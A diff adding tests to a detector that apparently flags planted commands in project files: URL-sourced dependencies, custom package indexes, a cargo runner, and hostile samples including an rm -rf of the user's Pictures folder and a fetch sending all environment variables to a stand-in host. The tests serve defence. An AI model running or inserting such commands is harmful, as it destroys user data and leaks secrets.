@@ -55,6 +55,45 @@ test('a registry is the command that sets it', () => {
   ])
 })
 
+test('a dependency from an address is the command that adds it', () => {
+  const url = 'https://x.example/a.tgz'
+  assert.deepEqual(
+    planted('package.json', `{"dependencies":{"a":"^1.0.0","b":"${url}"},"homepage":"${url}"}`),
+    [`npm install 'b@${url}'`],
+  )
+  const before = `{"dependencies":{"b":"${url}"}}`
+  assert.deepEqual(planted('package.json', `{"dependencies":{"b":"${url}","c":"1"}}`, before), [])
+  assert.deepEqual(planted('requirements.txt', `# ${url}\n-i https://x.example\na==1\nb @ ${url}\n`), [
+    "pip install --index-url 'https://x.example' x",
+    `pip install '${url}'`,
+  ])
+  assert.deepEqual(planted('pyproject.toml', `[project]\ndependencies = ["a", "b @ git+${url}"]\n`), [
+    `pip install 'git+${url}'`,
+  ])
+  assert.deepEqual(
+    planted('pyproject.toml', `[project.urls]\nurl = "${url}"\n[tool.uv.sources]\nb = { git = "${url}" }\n`),
+    [`pip install 'git+${url}'`],
+  )
+  assert.deepEqual(planted('pyproject.toml', `[[tool.uv.index]]\nurl = "https://x.example"\n`), [
+    "pip install --index-url 'https://x.example' x",
+  ])
+  assert.deepEqual(planted('.cargo/config.toml', `[target.x]\nrunner = "${run}"\n[build]\njobs = 2\n`), [run])
+})
+
+test('code that somebody calls is read where it may send secrets or delete files of the user', () => {
+  const wipe = 'rm -rf "$HOME/Pictures"'
+  assert.deepEqual(planted('scripts/x.sh', wipe), [wipe])
+  const send = "fetch('https://x.example', { body: JSON.stringify(process.env) })"
+  assert.deepEqual(planted('src/x.ts', send), [send])
+  for (const [path, text] of [
+    ['scripts/x.sh', 'rm -rf "$HOME/.cache/x" dist\n# rm -rf ~/a'],
+    ['scripts/x.md', wipe],
+    ['test/x.test.ts', send],
+    ['src/x.ts', "fetch('https://x.example', { body: process.env.NAME })"],
+  ] as const)
+    assert.deepEqual(planted(path, text), [], text)
+})
+
 test('programs and variables of an editor and of package managers', () => {
   const settings =
     '{"git.path":"/tmp/git","editor.fontSize":12,"terminal.integrated.env.linux":{"LD_PRELOAD":"/tmp/x.so"}}'
